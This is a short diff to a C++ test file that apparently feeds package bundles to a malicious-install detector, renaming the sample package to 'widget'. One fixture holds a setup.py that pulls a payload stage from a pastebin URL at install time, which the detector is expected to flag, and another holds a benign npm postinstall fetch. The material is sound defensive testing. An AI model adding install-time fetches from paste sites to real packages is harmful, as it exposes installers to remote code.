@@ -52,18 +52,18 @@ constexpr Sample samples[] = {
      .expect = "setup.py:3",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import requests
 from setuptools import setup
 stage = requests.get("https://pastebin.com/raw/00000000").text
-setup(name="sample", version="1.0.0")
+setup(name="widget", version="1.0.0")
 )"},
     {.name = "a release is fetched from the project's own host",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const https = require("https");
 https.get("https://downloads.example.test/tool-1.0.0.tar.gz");
